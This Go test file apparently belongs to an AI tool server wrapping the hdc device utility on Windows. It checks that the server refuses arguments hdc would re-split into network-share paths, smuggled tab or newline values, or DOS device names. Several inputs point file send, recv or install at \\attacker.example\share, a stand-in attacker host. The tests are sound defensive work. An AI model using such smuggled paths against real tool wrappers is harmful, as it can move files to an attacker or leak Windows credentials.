package hdc_test

import (
	"context"
	"strings"
	"testing"

	"github.com/winbridge/winbridge/client"
	"github.com/winbridge/winbridge/hdc"
	"github.com/winbridge/winbridge/winexec"
)

// TestRunNetworkPathsAsHdcSplits: hdc does not open an argument of file
// send, file recv or install as it is. It joins the command line and
// splits it again with Base::SplitCommandToArgs (src/common/file.cpp,
// src/host/host_app.cpp), which drops double quotes and splits at tabs,
// and joins a relative path to a -cwd value. A network share hidden that
// way must be refused like a plain one: Windows would connect and
// authenticate to the host, and file send needs no confirm.
func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
	r, c, ctx := countingTools(t)
	for _, args := range [][]string{
		{"-t", "K1", "file", "send", `"\\attacker.example\share\x"`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "a\t\\\\attacker.example\\share\\x", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "-cwd", `"\\attacker.example\share"`, "x", "/data/local/tmp/x"},
		{"-t", "K1", "file", "recv", "/data/local/tmp/x", `"//attacker.example/share/x"`},
		{"-t", "K1", "install", `"\\?\UNC\attacker.example\share\x.hap"`},
		{"-t", "K1", "file send", "x\t\\\\.\\pipe\\x", "/data/local/tmp/x"},
		// hdc.exe joins a path it deems relative (neither "X:\" nor a
		// leading "\\") to the -cwd value as text: "\" or "/" and
		// "\host\share\x" make "\\host\share\x".
		{"-t", "K1", "file", "send", "-cwd", `\`, `\attacker.example\share\x`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "recv", "/data/local/tmp/x", "-cwd", "/", "/attacker.example/share/x"},
		{"-t", "K1", "install", "-cwd", "/", "/attacker.example/share/x.hap"},
		{"-t", "K1", "install", "-cwd", `\`, `\?\UNC\attacker.example\share\x.hap`},
	} {
		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "network share") && !strings.Contains(res.TextOf(), "device path") {
			t.Errorf("hdc_run %q = %v %q; want refused as a network share or device path", args, err, res.TextOf())
		}
	}
	if n := r.count(); n != 0 {
		t.Errorf("hdc ran %d times: %q", n, r.runs)
	}
	// Drive paths, quoted or not, and WSL's share still run.
	for _, args := range [][]string{
		{"-t", "K1", "file", "send", `"C:\my files\x"`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", `\\wsl.localhost\Ubuntu\home\u\x`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "-cwd", `C:\dir\`, `\x`, "/data/local/tmp/x"},
	} {
		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
		if err != nil || res.IsError {
			t.Errorf("hdc_run %q = %v %q; want it run", args, err, res.TextOf())
		}
	}
}

// countingTools serves the hdc tools for a Windows hdc.exe whose runs are
// only counted.
func countingTools(t *testing.T) (*countingRunner, *client.Client, context.Context) {
	t.Helper()
	r := &countingRunner{}
	c, ctx := serveHDC(t, winexec.Config{Runner: r, HDCExe: "hdc.exe"})
	return r, c, ctx
}

// TestFileToolsReadAsHdcSplits: the dedicated tools mean their local
// path to be the one hdc opens, but hdc splits its command line again
// (Base::SplitCommandToArgs drops double quotes and splits at tabs, CR
// and LF) and takes the local path from the end: a remote path holding a
// tab put a network share in its place, for hdc_file_send without
// confirm. Every dedicated tool must refuse arguments hdc would split
// differently.
func TestFileToolsReadAsHdcSplits(t *testing.T) {
	r, c, ctx := countingTools(t)
	for _, call := range []struct {
		tool string
		args map[string]any
	}{
		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "\\\\attacker.example\\share\\x\t/data/local/tmp/x", "confirm": true}},
		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": `/data/a"b`, "confirm": true}},
		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/a\nb", "confirm": true}},
		{hdc.ToolFileRecv, map[string]any{"connectKey": "K1", "local": `C:\x`, "remote": "/data/x\t-cwd", "confirm": true}},
		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": "/mnt/c/a\tb", "remote": "/data/x", "confirm": true}},
	} {
		res, err := c.CallTool(ctx, call.tool, call.args)
		if err != nil || !res.IsError {
			t.Errorf("%s %q = %v %q; want refused", call.tool, call.args, err, res.TextOf())
		}
	}
	if n := r.count(); n != 0 {
		t.Errorf("hdc ran %d times: %q", n, r.runs)
	}
	// Spaces are hdc's to quote, and it does.
	res, err := c.CallTool(ctx, hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\my files\x`, "remote": "/data/my files/x", "confirm": true})
	if err != nil || res.IsError {
		t.Errorf("paths with spaces: %v %q", err, res.TextOf())
	}
}

// TestWindowsHdcWithoutExeSuffix: a Windows hdc named by a Windows path
// without ".exe" (HDC_EXE=C:\sdk\hdc, which CreateProcess and wine
// complete), or any hdc under a launcher, is hdc.exe all the same: it
// reads its command line through the ANSI code page, whose best-fit
// mapping turns fullwidth "ｋｉｌｌ" into kill, and opens network shares.
// The Windows-only refusals must hold for it too.
func TestWindowsHdcWithoutExeSuffix(t *testing.T) {
	for _, cfg := range []winexec.Config{
		{HDCExe: `C:\sdk\hdc`},
		{HDCExe: "hdc", Backend: winexec.BackendDirect, Launcher: []string{"wine"}, Policy: winexec.Policy{AllowExe: []string{"hdc"}}},
	} {
		r := &countingRunner{}
		if cfg.Backend == "" {
			cfg.Runner = r
		}
		c, ctx := serveHDC(t, cfg)
		expectWindowsRefusals(ctx, t, c, cfg.HDCExe)
		if n := r.count(); n != 0 {
			t.Errorf("hdc ran %d times: %q", n, r.runs)
		}
	}
}

// TestRunDOSDeviceNames: Windows maps a path whose last component is a
// DOS device name (CON, NUL, AUX, PRN, COM0-9, LPT0-9, CONIN$, CONOUT$),
// whatever its extension and with trailing dots or spaces, to the device
// instead of a file, in any directory before Windows 11. hdc.exe joins a
// relative path to its working directory or a -cwd value, so "COM1"
// opens the serial port and "CON" the console: past the file system,
// like a device path, and refused like one. So is a -cwd value the name
// completes ("-cwd C:\x\CO" then "N"), and a drive path given to the
// dedicated tools.
func TestRunDOSDeviceNames(t *testing.T) {
	r, c, ctx := countingTools(t)
	for _, args := range [][]string{
		{"-t", "K1", "file", "send", "COM1", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "NUL", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "con", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "LPT1", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "AUX", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "CONIN$", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "COM1.txt", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "COM1.", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", `"COM1 "`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "nul:", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", `dir\prn.log`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", `C:\tmp\aux.log`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "-cwd", `C:\x\CO`, "N", "/data/local/tmp/x"},
		{"-t", "K1", "file", "recv", "/data/local/tmp/x", "COM2"},
		{"-t", "K1", "install", "NUL.hap"},
		{"-t", "K1", "keygen", "CONOUT$"},
		{"-t", "K1", "bugreport", "LPT3.zip"},
	} {
		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "DOS device") {
			t.Errorf("hdc_run %q = %v %q; want refused as a DOS device name", args, err, res.TextOf())
		}
	}
	for _, call := range []struct {
		tool string
		args map[string]any
	}{
		{hdc.ToolFileSend, map[string]any{"connectKey": "K1", "local": `C:\tmp\COM1.txt`, "remote": "/data/local/tmp/x"}},
		{hdc.ToolFileRecv, map[string]any{"connectKey": "K1", "local": `C:\tmp\nul`, "remote": "/data/local/tmp/x", "confirm": true}},
		{hdc.ToolInstall, map[string]any{"connectKey": "K1", "path": `D:/apps/con.hap`, "confirm": true}},
	} {
		res, err := c.CallTool(ctx, call.tool, call.args)
		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "DOS device") {
			t.Errorf("%s %q = %v %q; want refused as a DOS device name", call.tool, call.args, err, res.TextOf())
		}
	}
	if n := r.count(); n != 0 {
		t.Errorf("hdc ran %d times: %q", n, r.runs)
	}
	// Names that only contain or extend a device name, and a device
	// name as a directory (Windows maps only the last component), run.
	for _, args := range [][]string{
		{"-t", "K1", "file", "send", "console.txt", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "COM10", "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", `C:\CON\x.txt`, "/data/local/tmp/x"},
		{"-t", "K1", "file", "send", "-cwd", `C:\dir\`, "nullable.txt", "/data/local/tmp/x"},
	} {
		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
		if err != nil || res.IsError {
			t.Errorf("hdc_run %q = %v %q; want it run", args, err, res.TextOf())
		}
	}
}
